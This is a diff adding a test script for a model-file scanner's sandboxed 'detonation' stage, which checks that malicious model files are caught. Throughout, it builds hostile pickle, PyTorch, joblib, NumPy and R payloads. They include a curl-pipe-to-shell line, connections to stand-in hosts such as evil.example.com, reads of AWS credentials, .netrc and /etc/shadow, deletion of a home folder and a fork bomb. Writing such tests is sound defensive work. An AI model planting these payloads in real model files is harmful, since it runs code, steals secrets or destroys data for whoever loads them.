@@ -1,0 +1,338 @@
+#!/usr/bin/python3
+"""Detonation: real models, real loaders, a real sandbox. What they attempt is seen, refused and judged; harmless models stay
+CLEAN; what cannot be exercised is said. Usage: test_detonate.py PATH-OF-GATEHOUSE"""
+import importlib.util
+import json
+import os
+import pathlib
+import pickle
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+
+import common
+from common import check, ids, run
+
+work = pathlib.Path(tempfile.mkdtemp(prefix='gatehouse-detonate-', dir='/var/tmp'))
+skipped = 0
+
+
+def skip(what, why):
+    global skipped
+    skipped += 1
+    print(f'skipped {what}: {why}')
+
+
+def have(*modules):
+    """Whether the Python that detonations would find has these modules."""
+    return all(importlib.util.find_spec(m) for m in modules)
+
+
+def detonate(path, *options, seconds=20, **kw):
+    options = options if any(o.startswith('--detonate') for o in options) else ('--detonate', *options)
+    r = run('scan', '-f', 'json', *options, '--detonate-time', str(seconds), path, **kw)
+    check(f'{path}: no signal', r.returncode in (0, 1, 2), f'{r.returncode} {r.stderr!r}')
+    try:
+        return r.returncode, json.loads(r.stdout)
+    except ValueError:
+        check(f'{path}: a report', False, r.stderr)
+        return r.returncode, {'verdict': 'NONE', 'files': [{}], 'stages': {'detonation': {}}, 'detonation': {}}
+
+
+def events(report):
+    return report.get('detonation', {}).get('events', [])
+
+
+class Call:
+    """A pickle of it calls f(*a) when it is loaded."""
+
+    def __init__(self, f, *a):
+        self.f, self.a = f, a
+
+    def __reduce__(self):
+        return self.f, self.a
+
+
+def evil(name, f, *a):
+    path = work / (name + '.pkl')
+    path.write_bytes(pickle.dumps(Call(f, *a)))
+    return path
+
+
+def code(name, text):
+    return evil(name, exec, text)
+
+
+def expect(what, path, kind, rule, *says, status=1, **kw):
+    """An event of that kind, with these words in its text, is a finding of that rule, and the file is UNSAFE."""
+    rc, report = detonate(path, **kw)
+    texts = [e['text'] for e in events(report) if e['kind'] == kind]
+    check(f'{what}: UNSAFE, status {status}', report['verdict'] == 'UNSAFE' and rc == status, report['verdict'])
+    check(f'{what}: {rule}', rule in ids(report['files'][0]), report.get('detonation'))
+    for word in says:
+        check(f'{what}: says {word!r}', any(word in t for t in texts), events(report))
+    return report
+
+
+def harmless(what, path, *exercised, options=(), name=None):
+    rc, report = detonate(path, *options)
+    f = report['files'][0]
+    det = [i for i in ids(f) if i.startswith('GH-DET')]
+    check(f'{what}: no event', events(report) == [] and det == [], report.get('detonation'))
+    check(f'{what}: the stage ran', report['stages']['detonation'].get('state') == 'run', report['stages']['detonation'])
+    for word in exercised:
+        check(f'{what}: exercised {word!r}', any(word in x for x in report['detonation']['exercised']), report['detonation'])
+    return report
+
+
+def pickles():
+    marker = work / 'marker'
+    expect('os.system', evil('system', os.system, f'touch {marker}; curl http://192.0.2.1/x | sh'), 'exec', 'GH-DET-0001',
+           '/bin/sh -c', 'curl http://192.0.2.1/x | sh')
+    expect('subprocess', evil('popen', subprocess.Popen, ['/bin/sh', '-c', f'touch {marker}']), 'exec', 'GH-DET-0001',
+           f'/bin/sh -c \'touch {marker}\'')
+    check('nothing was run outside', not marker.exists())
+    import socket
+    expect('socket', evil('connect', socket.create_connection, ('192.0.2.7', 4444)), 'network', 'GH-DET-0002',
+           'would have connected to 192.0.2.7:4444')
+    import urllib.request
+    expect('urllib', evil('urllib', urllib.request.urlopen, 'http://evil.example.com/x'), 'network', 'GH-DET-0002',
+           'asked for the address of evil.example.com')
+    expect('writing', evil('write', open, str(marker), 'w'), 'write', 'GH-DET-0004', f'would have written to {marker}')
+    expect('writing a start-up file', evil('bashrc', open, '/home/user/.bashrc', 'a'), 'write', 'GH-DET-0004', '.bashrc')
+    check('nothing was written outside', not marker.exists())
+    expect('fork', evil('fork', os.fork), 'process', 'GH-DET-0005', 'another process')
+    expect('rmtree', evil('rmtree', shutil.rmtree, '/home/user'), 'write', 'GH-DET-0004', 'would have deleted /home/user/')
+    expect('eval', evil('eval', eval, "getattr(__import__('o'+'s'), 'po'+'pen')('whoami').read()"), 'exec', 'GH-DET-0001',
+           'whoami')
+    expect('ctypes', code('ctypes', "import ctypes; ctypes.CDLL(None).system(b'id')"), 'exec', 'GH-DET-0001', "/bin/sh -c id")
+    expect('exec in place', evil('execv', os.execv, '/bin/sh', ['sh', '-c', 'id']), 'exec', 'GH-DET-0001', '/bin/sh -c id')
+    expect('a decoy', code('aws', "import os; open(os.path.expanduser('~/.aws/credentials')).read()"), 'credentials',
+           'GH-DET-0003', '/home/user/.aws/credentials')
+    expect('a decoy through a link', code('link', "import os; os.symlink('/home/user/.netrc', '/tmp/a'); open('/tmp/a').read()"),
+           'credentials', 'GH-DET-0003', '/home/user/.netrc')
+    expect('shadow', code('shadow', "import os\ntry: open('/etc/shadow')\nexcept OSError: pass"), 'credentials', 'GH-DET-0003',
+           '/etc/shadow')
+    expect('kill', code('kill', "import os\ntry: os.kill(1, 9)\nexcept OSError: pass"), 'other-processes', 'GH-DET-0006',
+           'SIGKILL to process 1')
+    expect('ptrace', code('ptrace', "import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)"), 'other-processes', 'GH-DET-0006',
+           'ptrace')
+    expect('unshare', code('unshare', "import ctypes; ctypes.CDLL(None).unshare(0x10000000)"), 'kernel', 'GH-DET-0007',
+           'unshare')
+    expect('a library of its own', code('native', '''import ctypes, shutil, glob
+shutil.copy(sorted(glob.glob('/usr/lib/*/libz.so.1') + glob.glob('/lib/*/libz.so.1'))[0], '/tmp/own.so')
+try: ctypes.CDLL('/tmp/own.so')
+except OSError: pass'''), 'machine-code', 'GH-DET-0008', '/tmp/own.so')
+    report = expect('several things', code('many', '''import os, socket
+os.system('first')
+try: socket.create_connection(('203.0.113.9', 80))
+except OSError: pass
+os.system('last')'''), 'exec', 'GH-DET-0001', 'first', 'last')
+    check('several things: the network too', any('203.0.113.9:80' in e['text'] for e in events(report)), events(report))
+    check('several things: loaded to the end', report['stages']['detonation']['state'] == 'run', report['stages'])
+
+
+def limits():
+    def incomplete(what, path, *says, **kw):
+        rc, report = detonate(path, **kw)
+        stage = report['stages']['detonation']
+        check(f'{what}: the stage is incomplete', stage['state'] == 'incomplete', stage)
+        check(f'{what}: GH-DET-0010 or 0011', {'GH-DET-0010', 'GH-DET-0011'} & set(ids(report['files'][0])), report['files'])
+        for word in says:
+            check(f'{what}: says {word!r}', word in (stage['reason'] or ''), stage)
+        return report
+    start = time.monotonic()
+    incomplete('it sleeps', code('sleep', 'import time; time.sleep(1000)'), 'longer than 2 seconds', seconds=2)
+    check('it sleeps: ended in time', time.monotonic() - start < 15, time.monotonic() - start)
+    incomplete('it spins', code('spin', 'while True: pass'), 'longer than 2 seconds', seconds=2)
+    rc, report = detonate(code('memory', 'x = [bytearray(1 << 26) for _ in range(1000)]'), '--detonate', '--detonate-memory',
+                          '512M')
+    check('memory: incomplete', report['stages']['detonation']['state'] == 'incomplete', report['stages'])
+    check('memory: says so', 'memory' in report['stages']['detonation']['reason'], report['stages'])
+    incomplete('it fills the disk', code('disk', '''n = 0
+while True:
+    with open(f'/tmp/{n}', 'wb') as f: f.write(bytes(1 << 24))
+    n += 1'''), 'OSError')
+    incomplete('it ends early', evil('exit', os._exit, 0), 'status 0')
+    incomplete('it floods', code('flood', '''import os
+while True:
+    try: os.kill(1, 9)
+    except OSError: pass'''), 'calls')
+    report = expect('it forks without end', code('bomb', '''import os
+while True:
+    try: os.fork()
+    except OSError: break'''), 'process', 'GH-DET-0005')
+    left = subprocess.run(['ps', '-eo', 'args'], capture_output=True, text=True).stdout if shutil.which('ps') else ''
+    check('nothing is left running', '/loader/load.py' not in left, left)
+
+
+def models():
+    if not have('torch'):
+        skip('PyTorch', 'no torch here')
+    else:
+        import torch
+        torch.save({'w': torch.zeros(3), 'l': torch.nn.Linear(2, 2).state_dict()}, work / 'good.pt')
+        r = harmless('a checkpoint', work / 'good.pt', 'torch.load', 'touched everything')
+        check('a checkpoint: CLEAN', r['verdict'] == 'CLEAN', r['files'])
+        check('a checkpoint: the loader has a name and a version', 'torch ' in (r['detonation']['loader'] or ''), r['detonation'])
+        check('a checkpoint: the stage says with what', 'torch' in (r['stages']['detonation']['with'] or ''), r['stages'])
+        torch.save(torch.nn.Sequential(torch.nn.Linear(4, 2)), work / 'module.pt')
+        harmless('a module', work / 'module.pt', 'one forward pass')
+        torch.jit.save(torch.jit.script(torch.nn.Linear(4, 2)), str(work / 'script.pt'))
+        harmless('TorchScript', work / 'script.pt', 'torch.jit.load', 'one forward pass')
+        torch.save({'a': Call(os.system, 'id')}, work / 'bad.pt')
+        expect('a hostile checkpoint', work / 'bad.pt', 'exec', 'GH-DET-0001', '/bin/sh -c id')
+    if not have('sklearn', 'joblib', 'numpy'):
+        skip('scikit-learn', 'no sklearn or joblib here')
+    else:
+        import joblib
+        import numpy
+        from sklearn.ensemble import RandomForestClassifier
+        from sklearn.linear_model import LogisticRegression
+        x = numpy.random.default_rng(1).random((30, 4))
+        y = (x[:, 0] > .5).astype(int)
+        joblib.dump(LogisticRegression().fit(x, y), work / 'lr.joblib')
+        harmless('logistic regression', work / 'lr.joblib', 'joblib.load', 'one prediction')
+        joblib.dump(RandomForestClassifier(5).fit(x, y), work / 'rf.joblib', compress=3)
+        harmless('a compressed forest', work / 'rf.joblib', 'joblib.load', 'one prediction')
+        joblib.dump([Call(os.system, 'id'), x], work / 'bad.joblib')
+        expect('a hostile joblib file', work / 'bad.joblib', 'exec', 'GH-DET-0001', '/bin/sh -c id')
+    if not have('numpy'):
+        skip('NumPy', 'no numpy here')
+    else:
+        import numpy
+        numpy.savez(work / 'a.npz', a=numpy.zeros(3))
+        harmless('npz', work / 'a.npz', 'numpy.load', 'all 1 arrays')
+        numpy.save(work / 'bad.npy', numpy.array([Call(os.system, 'id')], dtype=object))
+        expect('a hostile npy', work / 'bad.npy', 'exec', 'GH-DET-0001', '/bin/sh -c id')
+    if not have('h5py'):
+        skip('HDF5', 'no h5py here')
+    else:
+        import h5py
+        with h5py.File(work / 'a.h5', 'w') as f:
+            f['w'] = [1.0, 2.0]
+            f.attrs['n'] = 3
+        harmless('HDF5', work / 'a.h5', 'h5py')
+
+
+def r_objects():
+    if not shutil.which('Rscript', path='/usr/bin:/bin'):
+        skip('R', 'no R here')
+        return
+    subprocess.run(['Rscript', '-e', '''saveRDS(list(a = 1, b = "x"), "good.rds"); e <- new.env()
+delayedAssign("p", system("id"), assign.env = e); saveRDS(e, "lazy.rds", compress = FALSE)
+.First <- function() system("whoami"); save(.First, file = "first.rda")'''], cwd=work, check=True, capture_output=True)
+    harmless('an R object', work / 'good.rds', 'readRDS')
+    expect('a lazy R object', work / 'lazy.rds', 'exec', 'GH-DET-0001', 'id')
+    expect('.First of a workspace', work / 'first.rda', 'exec', 'GH-DET-0001', 'whoami')
+
+
+def not_exercised():
+    gguf = work / 'hostile.gguf'
+    gguf.write_bytes(b'GGUF\3\0\0\0' + b'\xff' * 16 + b'\0' * 64)
+    rc, report = detonate(gguf)
+    stage = report['stages']['detonation']
+    if stage['state'] == 'not_run':
+        check('GGUF without engine: says so', 'not exercised: no engine' in stage['reason'], stage)
+        check('GGUF without engine: never CLEAN', report['verdict'] != 'CLEAN' and rc != 0, report['verdict'])
+    else:
+        check('a hostile GGUF: does not load', stage['state'] == 'incomplete', stage)
+    text = work / 'notes.txt'
+    text.write_text('nothing to load\n')
+    rc, report = detonate(text)
+    check('no model: not run, CLEAN', report['verdict'] == 'CLEAN' and report['stages']['detonation']['state'] == 'not_run',
+          report['stages'])
+    (work / 'good.pkl').write_bytes(pickle.dumps({'a': [1, 2]}))
+    r = run('scan', '-f', 'json', work / 'good.pkl')
+    report = json.loads(r.stdout)
+    check('not by default', report['stages']['detonation']['state'] == 'not_run' and 'detonation' not in report, report)
+    (work / 'missing.pkl').write_bytes(b'cno_such_module_here\nThing\n.')
+    rc, report = detonate(work / 'missing.pkl')
+    check('a missing module: incomplete, with the reason',
+          'no_such_module_here' in (report['stages']['detonation']['reason'] or ''), report['stages'])
+    folder = work / 'folder'
+    folder.mkdir()
+    (folder / 'a.pkl').write_bytes(pickle.dumps([1]))
+    (folder / 'b.pkl').write_bytes(pickle.dumps(Call(os.system, 'id')))
+    rc, report = detonate(folder)
+    check('a folder: each file by itself', [f['verdict'] for f in report['files']] == ['CLEAN', 'UNSAFE'], report['files'])
+    check('a folder: events name the file', all(e['file'].endswith('b.pkl') for e in events(report)), events(report))
+
+
+def own_command():
+    script = work / 'own.py'
+    script.write_text('import pickle, sys\nprint(pickle.load(open(sys.argv[1], "rb")))\n')
+    command = f'/usr/bin/python3 {script} {{path}}'
+    rc, report = detonate(work / 'system.pkl', '--detonate-with', command)
+    check('an own command: seen', any(e['kind'] == 'exec' for e in events(report)), report.get('detonation'))
+    harmless('an own command, harmless', work / 'good.pkl', options=('--detonate-with', command))
+    for options, says in ((('--detonate-with', 'nosuchprogram {path}'), 'no such program'),
+                          (('--detonate-with', 'cat'), '{path}'), (('--detonate-with', "cat '{path}"), 'quote'),
+                          (('--detonate', '--detonate-python', '/etc/hostname'), 'no Python'),
+                          (('--detonate', '--detonate-engine', '/nonexistent'), 'llama.cpp'),
+                          (('--detonate-python', '/usr/bin/python3'), '--detonate')):
+        r = run('scan', *options, work / 'good.pkl')
+        check(f'{options}: usage', r.returncode == 64 and says in r.stderr.decode() and not r.stdout, r)
+
+
+def rootless():
+    """The same sandbox for a user without rights, where the kernel lets users make name spaces."""
+    if os.geteuid() != 0:
+        skip('as another user', 'these tests do not run as root: all of them are that test')
+        return
+    folder = pathlib.Path(tempfile.mkdtemp(prefix='gatehouse-user-', dir='/var/tmp'))
+    try:
+        folder.chmod(0o755)
+        for name in ('gatehouse', 'gatehouse-worker'):
+            shutil.copy(os.path.join(os.path.dirname(common.GATEHOUSE), name), folder)
+        for data in pathlib.Path(common.GATEHOUSE).parent.glob('*.ghd'):
+            shutil.copy(data, folder)
+        shutil.copy(work / 'system.pkl', folder / 'system.pkl')
+        (folder / 'system.pkl').chmod(0o644)
+        r = subprocess.run([folder / 'gatehouse', 'scan', '--detonate', '-f', 'json', folder / 'system.pkl'],
+                           capture_output=True, user=65534, group=65534, extra_groups=[], env=common.ENV, cwd='/')
+        report = json.loads(r.stdout)
+        stage = report['stages']['detonation']
+        if stage['state'] == 'not_run':
+            check('a user without name spaces: the reason', 'sandbox' in stage['reason'] and report['verdict'] != 'CLEAN', stage)
+            skip('as another user', stage['reason'])
+        else:
+            check('as another user: seen', any(e['kind'] == 'exec' for e in events(report)), report['detonation'])
+    finally:
+        shutil.rmtree(folder)
+
+
+def schema(root):
+    if not have('jsonschema'):
+        skip('the schema', 'no jsonschema here')
+        return
+    import jsonschema
+    with open(root / 'docs/schema/scan-report.schema.json') as f:
+        validator = jsonschema.Draft202012Validator(json.load(f))
+    for path in (work / 'system.pkl', work / 'hostile.gguf', work / 'notes.txt'):
+        report = json.loads(run('scan', '--detonate', '-f', 'json', path).stdout)
+        errors = [e.message for e in validator.iter_errors(report)]
+        check(f'{path.name}: as the schema says', errors == [], errors[:3])
+
+
+def main():
+    try:
+        (work / 'probe.pkl').write_bytes(pickle.dumps(1))
+        rc, report = detonate(work / 'probe.pkl')
+        reason = report['stages']['detonation'].get('reason') or ''
+        if 'sandbox could not' in reason:
+            check('no sandbox: not run, never CLEAN', report['stages']['detonation']['state'] == 'not_run' and
+                  report['verdict'] == 'INCOMPLETE', report['stages'])
+            skip('detonation', reason)
+        else:
+            for part in (pickles, limits, models, r_objects, not_exercised, own_command, rootless):
+                part()
+            schema(pathlib.Path(__file__).resolve().parents[2])
+    finally:
+        shutil.rmtree(work)
+    return common.end('test_detonate')
+
+
+sys.exit(main())
